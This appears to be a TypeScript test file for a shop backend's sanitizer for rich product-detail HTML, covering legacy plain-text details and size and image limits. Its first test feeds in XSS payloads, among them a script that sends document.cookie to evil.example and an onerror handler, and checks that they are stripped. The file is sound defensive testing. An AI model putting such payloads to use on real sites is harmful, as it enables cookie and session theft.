/** Handler tests for the rich product detail: productAdmin sanitizes on save, catalog.detail answers what was kept. */
import { PRODUCT_DETAIL_MAX } from '@shop/types';
import { startTestGateway, type TestGateway } from './testing';
import { makePng } from './testPng';

let gw: TestGateway;
let owner: string;

beforeAll(async () => {
  gw = await startTestGateway();
  owner = await gw.merchantToken('owner');
});
afterAll(() => gw.close());

const base = (over: Record<string, unknown>) => ({ name: '图文详情商品', onShelf: true, skus: [{ specValues: [], price: 1990, stock: 5 }], ...over });

test('a detail with a script, an outside link and an outside picture keeps only the safe rest, and the storefront reads it', async () => {
  const { url } = await gw.ok('productAdmin', 'uploadImage', { filename: 'cup.png', contentBase64: makePng(12, 12).toString('base64') }, owner);
  const detail = [
    '<h2 style="text-align: center">手工陶杯</h2>',
    '<p><strong>容量</strong> 350 ml<script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
    '<ul><li>微波炉可用</li><li><em>洗碗机</em>可用</li></ul>',
    `<p><img src="${url}" alt="杯子" onerror="alert(1)"><img src="https://evil.example/track.gif"></p>`,
    '<p><a href="https://evil.example/buy">去别家买</a> <a href="/pages/category/index">逛逛分类</a></p>',
  ].join('');
  const saved = await gw.ok('productAdmin', 'create', base({ code: 'RICH1', detail }), owner);
  const kept =
    '<h2 style="text-align:center">手工陶杯</h2>' +
    '<p><strong>容量</strong> 350 ml</p>' +
    '<ul><li>微波炉可用</li><li><em>洗碗机</em>可用</li></ul>' +
    `<p><img src="${url}" alt="杯子" /></p>` +
    '<p><span>去别家买</span> <a href="/pages/category/index">逛逛分类</a></p>';
  expect(saved).toMatchObject({ detail: kept, detailFormat: 'html' });
  expect(await gw.ok('productAdmin', 'get', { id: saved._id }, owner)).toMatchObject({ detail: kept, detailFormat: 'html' });
  const shown = await gw.ok('catalog', 'detail', { id: saved._id });
  expect(shown).toMatchObject({ detail: kept, detailFormat: 'html' });
  expect(shown.detail).not.toMatch(/script|evil|onerror/);
});

test('a detail saved before details were rich stays plain until the merchant changes it', async () => {
  const p = await gw.ok('productAdmin', 'create', base({ code: 'RICH2', detail: '' }), owner);
  // as an old product was stored: plain lines, no format
  await gw.db.collection('products').doc(p._id).update({ detail: '第一行\n第二行 <b>' });
  const input = { ...base({ code: 'RICH2' }), id: p._id, skus: [{ _id: p.skus[0]._id, specValues: [], price: 1990, stock: 5 }] };
  const same = await gw.ok('productAdmin', 'update', { ...input, detail: '第一行\n第二行 <b>', summary: '改了摘要' }, owner);
  expect(same.detail).toBe('第一行\n第二行 <b>');
  expect(same.detailFormat).toBeUndefined();
  expect((await gw.ok('catalog', 'detail', { id: p._id })).detail).toBe('第一行\n第二行 <b>');
  // changed as plain lines: paragraphs, escaped
  const changed = await gw.ok('productAdmin', 'update', { ...input, detail: '第一行\n第三行 <b>' }, owner);
  expect(changed).toMatchObject({ detail: '<p>第一行</p><p>第三行 &lt;b&gt;</p>', detailFormat: 'html' });
});

test.each([
  ['longer than the cap', `<p>${'长'.repeat(PRODUCT_DETAIL_MAX)}</p>`, 'too_big'],
  ['more than 60 pictures', `<p>图</p>${'<img src="/assets/demo/a.png">'.repeat(61)}`, 'too_many_images'],
])('a detail %s is VALIDATION_FAILED on detail and nothing is written', async (_name, detail, code) => {
  const before = (await gw.db.collection('products').where({ code: 'RICH3' }).count()).total;
  const r = await gw.call('productAdmin', 'create', base({ code: 'RICH3', detail }), owner);
  expect(r.status).toBe(400);
  expect(r.body.error).toMatchObject({ code: 'VALIDATION_FAILED', details: [expect.objectContaining({ path: 'detail', code })] });
  expect((await gw.db.collection('products').where({ code: 'RICH3' }).count()).total).toBe(before);
});
